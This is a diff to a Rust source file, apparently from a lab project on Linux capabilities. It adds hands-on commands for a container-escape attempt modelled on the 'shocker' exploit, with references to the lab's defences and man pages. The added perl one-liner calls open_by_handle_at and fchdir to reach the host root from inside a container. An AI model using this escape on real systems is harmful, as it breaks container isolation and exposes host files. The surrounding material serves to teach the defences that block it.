@@ -19,7 +19,10 @@ pub const ATTEMPT: Attempt = Attempt {
             directory of every ext4. From there it opens the canary. No mount, no root directory and no \
             namespace is in its way, only the capability is. The exploit \"shocker\" left the first Docker \
             containers so.",
-    by_hand: &[],
+    by_hand: &[
+        "[ -e /dev/null ] || touch /dev/null",
+        r#"perl -e 'open V, "/data"; $h = pack "IiII", 8, 1, 2, 0; $d = syscall 304, fileno V, $h, 0; syscall(81, $d) or exec "ls"'    # x86-64"#,
+    ],
     stopped_by: &["lab4-capabilities/bounding-set", "lab4-capabilities/capability-sets"],
     after: &[],
     man: &["open_by_handle_at(2)", "capabilities(7)"],
